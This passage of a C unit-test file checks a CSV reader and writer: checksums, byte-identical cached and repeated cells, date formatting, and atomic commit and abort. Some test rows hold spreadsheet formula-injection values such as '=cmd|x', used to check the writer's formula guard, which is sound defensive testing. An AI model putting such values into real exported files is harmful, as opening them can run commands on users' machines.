	texts_free(&t);
	free(path);
}

static int count_row(void *ctx, const struct csv_row *r, struct err *e)
{
	(void)r;
	(void)e;
	++*(size_t *)ctx;
	return 0;
}

static void test_csvio__writer_sums_match_reader_and_sha256sum(
	void **state)
{
	static char cells[12000][3][48];
	static const char *rows[12000][3];
	struct err e = ERR_INIT;
	struct csv_file_info winfo, rinfo;
	char sum[SHA256_HEX_LEN];
	size_t seen = 0;
	struct stat st;
	char *path;

	(void)state;
	/* over one 1 MiB buffer of output, cells quoted and plain */
	for (int i = 0; i < 12000; i++)
		for (int c = 0; c < 3; c++) {
			snprintf(cells[i][c], sizeof(cells[i][c]),
				 c == 1 ? "r%05d-c%d-plain-padding-padding"
					: "r%05d c%d, \"padding\" padding",
				 i, c);
			rows[i][c] = cells[i][c];
		}
	path = write_texts("sums.csv", (const char *const(*)[3])rows, 12000,
			   &winfo);
	assert_int_equal(csv_read(path, &text_schema, count_row, &seen,
				  &rinfo, &e),
			 0);
	assert_int_equal(seen, 12000);
	assert_int_equal(winfo.rows, 12000);
	assert_int_equal(rinfo.rows, 12000);
	assert_int_equal(stat(path, &st), 0);
	assert_true(st.st_size > (1 << 20));
	assert_int_equal(winfo.bytes, (uint64_t)st.st_size);
	assert_int_equal(rinfo.bytes, (uint64_t)st.st_size);
	sha256sum(path, sum);
	assert_string_equal(winfo.sha256, sum);
	assert_string_equal(rinfo.sha256, sum);
	free(path);
}

/* An output no manifest records is written without a SHA-256: the same
 * bytes as a hashed one. */
static void test_csvio__output_writer_writes_the_same_bytes(void **state)
{
	static const char *const rows[2][3] = {
		{ "a", "b, c", "=d" }, { "1", "\"q\"", "" },
	};
	struct err e = ERR_INIT;
	char *hashed = write_texts("hashed.csv", rows, 2, NULL);
	char *path = test_path("output.csv");
	struct csv_writer *w = csv_writer_open_output(path, &text_schema, &e);
	char *a, *b;

	(void)state;
	assert_non_null(w);
	for (size_t i = 0; i < 2; i++) {
		for (int c = 0; c < 3; c++)
			csv_put(w, rows[i][c]);
		csv_end_row(w);
	}
	assert_int_equal(csv_writer_commit(w, NULL, &e), 0);
	a = test_read(hashed);
	b = test_read(path);
	assert_non_null(a);
	assert_non_null(b);
	assert_string_equal(a, b);
	free(a);
	free(b);
	free(hashed);
	free(path);
}

/* Cells kept with csv_cached are written again byte for byte, hostile
 * text included (quoted, formula-guarded, invalid UTF-8 replaced), and
 * not where the key or the place in the row differs. */
static void test_csvio__cached_cells_are_the_same_bytes(void **state)
{
	static const char *const rows[5][3] = {
		{ "=cmd|x", "a \"b\", c", "1" },
		{ "=cmd|x", "a \"b\", c", "2" },
		{ "=cmd|x", "a \"b\", c", "3" },
		{ "plain", "bad \xff", "4" },
		{ "plain", "bad \xff", "5" },
	};
	static const char *const keys[5] = { "k1", "k1", "k1", "k2", "k2" };
	struct err e = ERR_INIT;
	char *want = write_texts("uncached.csv", rows, 5, NULL);
	char *path = test_path("cached.csv");
	struct csv_writer *w = csv_writer_open_output(path, &text_schema, &e);
	char *a, *b;

	(void)state;
	assert_non_null(w);
	for (size_t i = 0; i < 5; i++) {
		if (!csv_cached(w, 0, keys[i])) {
			csv_put(w, rows[i][0]);
			csv_put(w, rows[i][1]);
			csv_cache_end(w, 0, keys[i]);
		}
		csv_put(w, rows[i][2]);
		csv_end_row(w);
	}
	assert_int_equal(csv_writer_commit(w, NULL, &e), 0);
	a = test_read(want);
	b = test_read(path);
	assert_non_null(a);
	assert_non_null(b);
	assert_string_equal(a, b);
	free(a);
	free(b);
	free(want);
	free(path);
}

/* Times and dates from the writer's day cache read as time_format_iso's
 * and time_format_date's, on the same day, the next, and back. */
static void test_csvio__times_and_dates_across_days(void **state)
{
	static const int64_t t[] = { 1793520000, 1793523723, 1793606399,
				     1793606400, 1793520001, 0,
				     TIME_CIVIL_MAX, 1793520000 };
	static const struct csv_column cols[] = {
		{ "t", 0 }, { "d", 0 },
	};
	static const struct csv_schema two = { "two.csv", cols, 2 };
	struct err e = ERR_INIT;
	char *path = test_path("days.csv");
	struct csv_writer *w = csv_writer_open(path, &two, &e);
	struct strbuf want = STRBUF_INIT;
	char iso[TIME_ISO_LEN], date[DATE_ISO_LEN];
	char *text;

	(void)state;
	assert_non_null(w);
	strbuf_adds(&want, "t,d\r\n");
	for (size_t i = 0; i < ARRAY_SIZE(t); i++) {
		csv_put_time(w, t[i]);
		csv_put_date(w, t[i]);
		csv_end_row(w);
		time_format_iso(t[i], iso);
		time_format_date(t[i], date);
		strbuf_addf(&want, "%s,%s\r\n", iso, date);
	}
	assert_int_equal(csv_writer_commit(w, NULL, &e), 0);
	text = test_read(path);
	assert_string_equal(text, want.buf);
	free(text);
	strbuf_release(&want);
	free(path);
}

/* One cell of the repeats test: what csv_put_double, csv_put_time,
 * csv_put_date and csv_put_name write for column col, value pick. */
static const char *const repeat_names[] = { "keep", "a,\"b\"", "", "=x" };
static const double repeat_values[] = { 0.4831, 0.0, -0.0, 114.7,
					-0.25, 1e300, 3999999999.9999 };
static const int64_t repeat_times[] = { 1793520000, 1793523723, -86400,
					 TIME_CIVIL_MAX, 0 };

static void put_repeat_cell(struct csv_writer *w, int col, unsigned pick,
			    bool plain)
{
	char text[400];
	double v = repeat_values[pick % ARRAY_SIZE(repeat_values)];
	int64_t t = repeat_times[pick % ARRAY_SIZE(repeat_times)];
	int decimals = 1 + (int)(pick / 8 % 4);

	switch (col) {
	case 0:
		csv_put_name(w, repeat_names[pick % ARRAY_SIZE(repeat_names)]);
		return;
	case 1:
		if (!plain) {
			csv_put_double(w, v, decimals);
			return;
		}
		format_fixed(text, sizeof(text), v, decimals);
		/* the writer's cell for a number is at most 63 bytes */
		text[63] = '\0';
		break;
	case 2:
		if (!plain) {
			csv_put_time(w, t);
			return;
		}
		time_format_iso(t, text);
		break;
	default:
		if (!plain) {
			csv_put_date(w, t);
			return;
		}
		time_format_date(t, text);
		break;
	}
	csv_put(w, text);
}

/* Values that repeat down a column (copied from the row before's
 * cell) and values that change give the same bytes as csv_put of their
 * text, across the writer's buffer flushes (an output file's written
 * directly, bar its tail), for any number of decimals,
 * both zeros, numbers too large for the fast path, times out of the
 * civil range and names that need quotes or the formula guard. */
static void test_csvio__repeated_cells_are_the_same_bytes(void **state)
{
	static const struct csv_column cols[] = {
		{ "name", 0 }, { "v", 0 }, { "t", 0 }, { "d", 0 },
	};
	static const struct csv_schema four = { "four.csv", cols, 4 };
	struct err e = ERR_INIT;
	char *paths[2] = { test_path("repeats.csv"),
			   test_path("repeats_plain.csv") };
	char *text[2];
	uint32_t x = 1;

	(void)state;
	for (int k = 0; k < 2; k++) {
		struct csv_writer *w =
			k ? csv_writer_open(paths[k], &four, &e)
			  : csv_writer_open_output(paths[k], &four, &e);
		unsigned pick[4] = { 0 };

		assert_non_null(w);
		x = 1;
		/* 200,000 rows: over 10 MB, flushed mid-row many times */
		for (int i = 0; i < 200000; i++) {
			for (int c = 0; c < 4; c++) {
				x = x * 1103515245u + 12345u;
				if (x >> 30 == 0) /* a quarter change */
					pick[c] = x >> 8;
				put_repeat_cell(w, c, pick[c], k == 1);
			}
			csv_end_row(w);
		}
		assert_int_equal(csv_writer_commit(w, NULL, &e), 0);
		text[k] = test_read(paths[k]);
		assert_non_null(text[k]);
	}
	assert_true(strlen(text[0]) > 10u << 20);
	assert_string_equal(text[0], text[1]);
	for (int k = 0; k < 2; k++) {
		free(text[k]);
		free(paths[k]);
	}
}

static void test_csvio__aborted_writer_leaves_nothing(void **state)
{
	struct err e = ERR_INIT;
	char *dir = test_path("abort");
	char *path = path_join(dir, "out.csv");
	struct csv_writer *w;
	char *ls;

	(void)state;
	assert_int_equal(mkdir_p(dir, &e), 0);
	w = csv_writer_open(path, &text_schema, &e);
	assert_non_null(w);
	for (int i = 0; i < 5000; i++) { /* past the first flush */
		csv_put(w, "some");
		csv_put(w, "data");
		csv_put(w, "here");
		csv_end_row(w);
	}
	ls = test_ls(dir);
	assert_string_not_equal(ls, ""); /* a temporary file while writing */
	assert_false(test_exists(path));
	free(ls);
	csv_writer_abort(w);
	ls = test_ls(dir);
	assert_string_equal(ls, "");
	free(ls);
	csv_writer_abort(NULL);
	free(path);
	free(dir);
}

static void test_csvio__commit_replaces_existing_file_atomically(
	void **state)
{
	static const char *const rows[][3] = { { "new", "row", "here" } };
	struct err e = ERR_INIT;
	char *dir = test_path("replace");
	char *path = path_join(dir, "out.csv");
	struct csv_writer *w;
	char buf[64] = { 0 };
	char *text, *ls;
	int fd;

	(void)state;
	assert_int_equal(mkdir_p(dir, &e), 0);
	assert_int_equal(afile_write_string(path, "a,b,c\r\nold,old,old\r\n",
					    &e),
			 0);
	fd = open(path, O_RDONLY); /* a reader that has the old file open */
	assert_true(fd >= 0);
	w = csv_writer_open(path, &text_schema, &e);
	assert_non_null(w);
	for (int c = 0; c < 3; c++)
		csv_put(w, rows[0][c]);
	csv_end_row(w);
	/* until commit, readers see the old file whole */
	text = test_read(path);
	assert_string_equal(text, "a,b,c\r\nold,old,old\r\n");
	free(text);
	assert_int_equal(csv_writer_commit(w, NULL, &e), 0);
	text = test_read(path);
	assert_string_equal(text, "a,b,c\r\nnew,row,here\r\n");
	free(text);
	/* the old file was renamed over, not rewritten in place */
	assert_true(read(fd, buf, sizeof(buf) - 1) > 0);
	assert_string_equal(buf, "a,b,c\r\nold,old,old\r\n");
	close(fd);
	ls = test_ls(dir);
	assert_string_equal(ls, "out.csv");
	free(ls);
	free(path);
	free(dir);
}

static void test_csvio__writer_cannot_create(void **state)
{
	struct err e = ERR_INIT;
	char *path = test_path("no/such/dir/out.csv");

	(void)state;
	assert_null(csv_writer_open(path, &text_schema, &e));
	assert_err(&e, EXIT_CANTCREAT,
		   "cannot create '%s': No such file or directory", path);
	free(path);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_csvio__reads_typed_rows),
		cmocka_unit_test(test_csvio__writer_neutralises_formulas),
		cmocka_unit_test(
			test_csvio__writer_raw_writes_cells_as_they_are),
		cmocka_unit_test(
			test_csvio__columns_in_any_order_extra_ignored),
		cmocka_unit_test(
			test_csvio__optional_columns_absent_keep_defaults),
		cmocka_unit_test(test_csvio__bad_time),
		cmocka_unit_test(test_csvio__bad_number),
		cmocka_unit_test(test_csvio__number_out_of_range),
		cmocka_unit_test(test_csvio__required_value_empty),
		cmocka_unit_test(test_csvio__unknown_enum_lists_allowed_values),
		cmocka_unit_test(test_csvio__long_value_shortened_in_message),
		cmocka_unit_test(test_csvio__missing_required_column),
		cmocka_unit_test(test_csvio__duplicate_column),
		cmocka_unit_test(test_csvio__short_and_long_rows),
		cmocka_unit_test(test_csvio__empty_file),
		cmocka_unit_test(test_csvio__header_only_is_zero_rows),
		cmocka_unit_test(test_csvio__missing_file),
		cmocka_unit_test(test_csvio__unterminated_quote_at_eof),
		cmocka_unit_test(test_csvio__quote_inside_unquoted_field),
		cmocka_unit_test(test_csvio__huge_field_refused),
		cmocka_unit_test(test_csvio__nul_byte_refused),
		cmocka_unit_test(test_csvio__embedded_quotes_and_newlines),
		cmocka_unit_test(
			test_csvio__line_numbers_after_multiline_fields),
		cmocka_unit_test(test_csvio__read_kept_skips_refused_rows),
		cmocka_unit_test(test_csvio__read_kept_maps_long_files),
		cmocka_unit_test(test_csvio__bom_crlf_and_blank_lines),
		cmocka_unit_test(test_csvio__cursor_reads_again_from_any_row),
		cmocka_unit_test(test_csvio__spaces_kept_only_when_quoted),
		cmocka_unit_test(test_csvio__writer_quotes_what_needs_it),
		cmocka_unit_test(test_csvio__writer_numbers_and_empty_values),
		cmocka_unit_test(test_csvio__write_read_round_trip),
		cmocka_unit_test(
			test_csvio__writer_sums_match_reader_and_sha256sum),
		cmocka_unit_test(test_csvio__output_writer_writes_the_same_bytes),
		cmocka_unit_test(test_csvio__cached_cells_are_the_same_bytes),
		cmocka_unit_test(test_csvio__times_and_dates_across_days),
		cmocka_unit_test(test_csvio__repeated_cells_are_the_same_bytes),
		cmocka_unit_test(test_csvio__aborted_writer_leaves_nothing),
		cmocka_unit_test(
			test_csvio__commit_replaces_existing_file_atomically),
		cmocka_unit_test(test_csvio__writer_cannot_create),
	};
	return cmocka_run_group_tests(tests, NULL, test_teardown_scratch);
}
